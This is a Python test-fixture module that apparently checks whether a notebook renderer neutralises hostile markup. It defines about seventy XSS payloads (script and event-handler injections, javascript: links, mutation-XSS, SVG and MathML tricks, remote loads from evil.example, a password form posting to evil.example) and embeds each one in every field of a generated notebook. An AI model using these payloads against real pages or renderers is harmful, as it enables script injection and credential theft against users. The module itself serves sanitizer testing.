"""Hostile markup: each piece in every place of a notebook where a reader might take it for its own."""
# ruff: noqa: E501  (a piece is easier to judge in one line)

import base64
import json
from collections.abc import Iterator
from typing import Any

Made = tuple[str, str, str, bytes]  # name, what is attacked, expected, bytes

DRAWING = base64.b64encode(
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><rect/></svg>"
).decode()

PIECES = {
    "script": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_broken_tags": "<scr<script>ipt>alert(1)</scr</script>ipt><script\x0c>alert(1)</script\t\n bar><script/x>alert(1)",
    "script_with_nul": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>",
    "img_onerror": "<img src=x onerror=alert(1)><img/src='x'/onerror=alert(1)><img src=\"x\"onerror=alert(1)//",
    "img_quotes": "<img src=`x`onerror=alert(1)><img src='x\"' title=\"'onerror=alert(1) x=\"><img alt=\"<b>\" src=x onerror='alert(1)'>",
    "svg_onload": "<svg onload=alert(1)><svg/onload=alert(1)><g onload=alert(1)></g></svg>",
    "svg_script": "<svg><script>alert(1)</script><script href='data:,alert(1)'/></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg_set": "<svg><set attributeName=onmouseover to=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg_use_remote": "<svg><use href='http://evil.example/x.svg#a'/><use xlink:href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    "svg_image_remote": "<svg><image href='http://evil.example/x.png'/><feImage href='http://evil.example/y'/></svg>",
    "svg_foreign_object": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=alert(1)></body></foreignObject></svg>",
    "svg_style_url": "<svg><style>*{fill:url(http://evil.example/x#y)}</style><rect style='fill:url(http://evil.example)'/></svg>",
    "math_href": "<math href=javascript:alert(1)>CLICK</math><math><mtext href='javascript:alert(1)'>x</mtext></math>",
    "math_maction": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>",
    "math_annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "iframe_srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)></iframe>",
    "iframe_remote": "<iframe src=http://evil.example/></iframe><frameset><frame src=http://evil.example></frameset>",
    "object_data": "<object data='data:text/html,<script>alert(1)</script>'></object><object data=http://evil.example/x.swf></object>",
    "embed": "<embed src=javascript:alert(1)><embed src=http://evil.example/x.swf><applet code=x></applet>",
    "base_href": "<base href=http://evil.example/><a href=x>x</a><img src=x.png>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'><meta http-equiv=Set-Cookie content=a=b>",
    "link_stylesheet": "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://evil.example/y>",
    "style_import": "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/y)}</style>",
    "style_attribute": "<div style='background:url(http://evil.example/x);position:fixed;inset:0'>over everything</div>",
    "style_expression": "<div style='width:expression(alert(1))' onclick=alert(1)>x</div><xss style='behavior:url(x)'>",
    "form_action": "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "input_autofocus": "<input autofocus onfocus=alert(1)><input type=image src=http://evil.example/x><select autofocus onfocus=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details><dialog open onclose=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>",
    "video_poster": "<video poster=http://evil.example/x src=http://evil.example/y onerror=alert(1)></video>",
    "audio_src": "<audio src=http://evil.example/x autoplay onloadstart=alert(1)></audio><track src=http://evil.example/z>",
    "srcset": "<img srcset='http://evil.example/x 1x' src=http://evil.example/y><picture><source srcset=http://evil.example/z></picture>",
    "remote_image": "<img src=http://evil.example/x.png><img src=//evil.example/y.png>\n\n![a](http://evil.example/z.png)",
    "table_background": "<table background=http://evil.example/x><tr><td background=http://evil.example/y>z</td></tr></table>",
    "link_javascript": "<a href=javascript:alert(1)>x</a>\n\n[x](javascript:alert(1)) <javascript:alert(1)>\n\n[y]\n\n[y]: javascript:alert(1)",
    "link_entities": "<a href='jav&#x09;ascript:alert(1)'>x</a><a href='&#106;avascript&colon;alert(1)'>y</a>\n\n[z](&#106;avascript:alert(1))",
    "link_controls": "<a href='\x01javascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>y</a><a href='java\nscript:alert(1)'>z</a>",
    "link_vbscript": "<a href=vbscript:msgbox(1)>x</a> [y](VBScript:msgbox(1)) <a href='livescript:x'>z</a> <a href='file:///etc/passwd'>f</a>",
    "link_data": "<a href='data:text/html,<script>alert(1)</script>'>x</a> [y](data:text/html;base64,PHNjcmlwdD4=) <a href=//evil.example>z</a>",
    "link_ping": "<a href=https://example.org ping=http://evil.example target=_top onclick=alert(1) download>x</a>",
    "link_title": '[x](https://example.org \'"onmouseover="alert(1)\') [y](https://example.org/"onmouseover="alert(1))',
    "image_alt": '![x"onerror="alert(1)](x.png \'"onload="alert(1)\') ![<img src=x onerror=alert(1)>](y) ![a](data:text/html,x)',
    "image_data_svg": f"<img src='data:image/svg+xml;base64,{DRAWING}'> ![a](data:image/svg+xml;base64,{DRAWING})",
    "table_cells": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| `</code><script>` | [x](javascript:alert(1)) |",
    "nested_markdown": "<div>\n\n**<img src=x onerror=alert(1)>** [x](javascript:alert(1))\n\n<script>\n\nalert(1)\n\n</script></div>",
    "comments": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)><![CDATA[<script>alert(1)</script>]]><!-[if IE]>x",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE html [<!ENTITY x '<script>'>]><?php alert(1) ?>",
    "code_fence": "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```\n\n`` </code><img src=x onerror=alert(1)> ``",
    "closing_tags": "</section></div></main></body></html><img src=x onerror=alert(1)></details></pre></code><script>alert(1)</script>",
    "raw_text_elements": "<title></title><img src=x onerror=alert(1)><xmp></xmp><textarea></textarea><script>alert(1)</script><plaintext>",
    "clobbering": "<a id=cell-1 name=body>x</a><a id=n-x>y</a><form id=document><input name=cookie></form><img name=getElementById>",
    "mutation_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><noembed></noembed><img src=x onerror=alert(1)>',
    "mutation_mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation_form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>",
    "mutation_svg_style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg><svg><title><style><img src=x onerror=alert(1)>',
    "mutation_select": '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
    "mutation_table": "<table><a href=x><td><img src=x onerror=alert(1)></a></table><table><tr><td></table><b><p></b><img onerror=alert(1)>",
    "mutation_entities": "<a title='&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>&lt;script&gt;alert(1)&lt;/script&gt;&#60;img onerror=alert(1)&#62;",
    "placeholder_forgery": "<data value='0'></data>\ufdd10\ufdd2 &#xFDD1;0&#xFDD2; $a$ <b title='$\\text{\" onmouseover=alert(1) x=\"}$ \ufdd10\ufdd2'>x</b>\ufdd0",
    "formula_html": "$\\text{<img src=x onerror=alert(1)>}$ $$\\href{javascript:alert(1)}{x} \\style{background:url(http://evil.example)}{y}$$",
    "formula_broken": '$</math><script>alert(1)</script>$ \\[ \\frac{<script>alert(1)</script> \\] $\\class{x" onclick="alert(1)}{a}$ $\\color{red"onclick="alert(1)}{x}$',
    "formula_macros": "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a$ $$\\def\\x{\\x\\x}\\x$$",
    "bidi": "access = 'user\u202e \u2066# admin\u2069 \u2066'  # \u200f<script>alert(1)</script>",
    "ansi": '\x1b[31m<script>alert(1)</script>\x1b[0m\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b["onclick=alert(1)m\x1b[38;5;999999mx',
}


def notebooks() -> Iterator[Made]:
    for name, piece in PIECES.items():
        yield f"markup_{name}", f"{name.replace('_', ' ')} in every place", "renders", everywhere(piece)


def everywhere(piece: str) -> bytes:
    """A notebook with the piece as source, output, name, id, key, language, title and metadata."""
    data = {
        "text/html": piece,
        "text/plain": piece,
        "text/markdown": piece,
        "text/latex": piece,
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{piece}<rect id='r'/></svg>",
        "image/png": piece,
        "application/javascript": piece,
        "application/json": {piece: piece},
        piece: piece,
    }
    singles = [{"output_type": "display_data", "metadata": {piece: piece}, "data": {mime: data[mime]}} for mime in data]
    outputs: list[dict[str, Any]] = [
        *singles,
        {"output_type": "execute_result", "execution_count": piece, "data": data, "metadata": {}},
        {"output_type": "stream", "name": piece, "text": piece},
        {"output_type": "stream", "name": "stderr", "text": [piece, piece]},
        {"output_type": "error", "ename": piece, "evalue": piece, "traceback": [piece, f"\x1b[31m{piece}"]},
        {"output_type": piece, "data": {"text/plain": piece}},
    ]
    attachments = {piece: {"image/png": piece, piece: piece}, "a.png": {"image/svg+xml": data["image/svg+xml"]}}
    cells = [
        {"cell_type": "markdown", "id": piece, "metadata": {piece: piece}, "source": piece, "attachments": attachments},
        {
            "cell_type": "markdown",
            "source": f"# {piece}\n\n- {piece}\n\n> {piece}\n\n![a](attachment:a.png) ![{piece}](attachment:{piece})",
        },
        {"cell_type": "markdown", "source": f'<div title="{piece}">{piece}</div>\n\n| {piece} |\n|---|\n| {piece} |'},
        {"cell_type": "code", "id": "c", "execution_count": piece, "source": piece, "outputs": outputs, "metadata": {}},
        {"cell_type": "raw", "source": piece, "metadata": {"format": piece}},
        {"cell_type": piece, "source": piece},
    ]
    kernel = {"display_name": piece, "language": piece, "name": piece}
    metadata = {
        "title": piece,
        "kernelspec": kernel,
        "language_info": {"name": piece},
        "authors": [{"name": piece}],
        piece: piece,
    }
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()
